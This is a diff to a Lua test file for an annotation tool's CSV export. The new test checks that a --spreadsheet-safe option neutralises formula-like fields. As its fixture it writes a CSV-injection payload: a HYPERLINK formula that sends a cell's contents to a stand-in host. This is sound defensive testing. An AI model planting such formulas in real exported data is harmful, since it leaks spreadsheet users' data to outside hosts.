@@ -238,6 +238,28 @@ describe('stance export', function()
     end
   end)
 
+  it('writes fields as they are; with --spreadsheet-safe a formula-like one gets a single quote first', function()
+    local d = example()
+    local f = (T.run('ls ' .. T.q(d) .. '/.stance/annotations/ana/*.stance')):match('[^\n]+')
+    local text = T.read(f)
+    -- a note and an author a spreadsheet would run as formulas (CSV injection)
+    T.write(f, text .. '\nannotation inj1\n  span 0-4\n  label evidence\n'
+      .. '  note "=HYPERLINK(\\"http://x.example/?\\"&A2)"\n  author "@SUM(1+1)"\n')
+    local plain = T.stance_run({ 'export', '--to', 'csv', '--annotator', 'ana', d })
+    assert.truthy(plain:find(',"=HYPERLINK(""http://x.example/?""&A2)",@SUM(1+1),', 1, true), plain)
+    local safe, err, code = T.stance_run({ 'export', '--to', 'csv', '--annotator', 'ana', '--spreadsheet-safe', d })
+    assert.are.equal(0, code, err)
+    assert.truthy(safe:find(',"\'=HYPERLINK(""http://x.example/?""&A2)",\'@SUM(1+1),', 1, true), safe)
+    -- numbers stay numbers, and nothing else changes
+    local csv = require('stance.export.csv')
+    assert.is_true(csv.formula_like('-0.5'))
+    assert.are.equal(#T.lines(plain), #T.lines(safe))
+    assert.are.equal(plain, (safe:gsub("([,\"])'([=@])", '%1%2')))
+    local _, uerr, ucode = T.stance_run({ 'export', '--to', 'jsonl', '--spreadsheet-safe', d })
+    assert.are.equal(2, ucode)
+    assert.truthy(uerr:find('--spreadsheet-safe is for --to csv', 1, true), uerr)
+  end)
+
   it('writes one record per sentence with the labels over it, and who is done with it', function()
     local d = example()
     -- ben has finished the first document: its sentences without his labels have no stance
